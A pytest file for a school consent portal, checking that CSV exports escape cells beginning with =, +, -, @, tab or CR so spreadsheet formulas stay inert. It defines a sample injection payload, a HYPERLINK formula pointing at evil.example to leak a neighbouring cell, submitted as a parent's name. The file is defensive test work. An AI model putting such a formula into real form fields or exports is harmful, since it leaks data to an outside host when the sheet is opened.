"""No CSV cell the portal produces starts with = + - @ tab or CR unless escaped with a quote
(aup_portal.spreadsheet, OWASP's rule), whoever typed it: a parent or the roster."""

import csv
import io
import re

import pytest

from aup_portal.spreadsheet import FORMULA_STARTS, safe_cell
from consent.services.forms_text import current_form_text
from tests.consent.conftest import make_link, standard_program, verify
from tests.consent.test_records import sign
from tests.factories import GuardianFactory, StudentFactory, StudentGuardianFactory

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open") Lopez'


def cells(response) -> list[list[str]]:
    return list(
        csv.reader(
            io.StringIO(
                (
                    b"".join(response.streaming_content) if response.streaming else response.content
                ).decode()
            )
        )
    )


def assert_no_live_formula(rows):
    # A plain signed number (an E.164 mobile) is no formula.
    live = [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-][0-9.]+", cell)
    ]
    assert live == []


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Rosa Lopez", "Rosa Lopez"),
        ("+17735550142", "+17735550142"),  # an E.164 mobile: a number, no formula
        ("-4.5", "-4.5"),
        (None, ""),
        (10, "10"),
    ],
)
def test_safe_cell_escapes_formula_starts_only(typed, written):
    assert safe_cell(typed) == written


def test_parent_typed_formula_is_text_in_the_principals_students_csv(
    client, frozen_today, family, school_year, principal_a
):
    student, mother, _father = family
    program = standard_program("bulk-alerts")
    _link, token = make_link(
        student=student, guardian=mother, program=program, school_year=school_year
    )
    parent = client.__class__()
    verify(parent, token)
    answered = parent.post(
        f"/consent/sign/{token}/answer/",
        {
            "form_text": current_form_text(program).pk,
            "decision": "grant",
            "signer_name": FORMULA,
            "relationship": "mother",
            "student_mobile": "773-555-0142",
            "esign_agreed": "on",
        },
    )
    assert answered.status_code == 302
    client.force_login(principal_a)

    response = client.get(
        "/consent/students.csv", {"school": "1001", "year": "2026-27", "program": program.slug}
    )

    rows = cells(response)
    assert rows[1][rows[0].index("answered_by")] == "'" + FORMULA
    assert_no_live_formula(rows)


def test_roster_formula_names_are_text_in_the_covered_today_export(
    client, frozen_today, school_a, school_year, principal_a
):
    program = standard_program("bulk-alerts")
    student = StudentFactory(school=school_a, grade=10, first_name="@SUM(1+1)", last_name="-2+3")
    guardian = StudentGuardianFactory(student=student, guardian=GuardianFactory()).guardian
    link, _token = make_link(
        student=student, guardian=guardian, program=program, school_year=school_year
    )
    sign(link)
    client.force_login(principal_a)

    response = client.get(f"/consent/export/{program.slug}.csv", {"school": school_a.code})

    rows = cells(response)
    header, row = rows
    assert (row[header.index("first_name")], row[header.index("last_name")]) == (
        "'@SUM(1+1)",
        "'-2+3",
    )
    assert row[header.index("student_mobile")] == "+17735550142"
    assert_no_live_formula(rows)
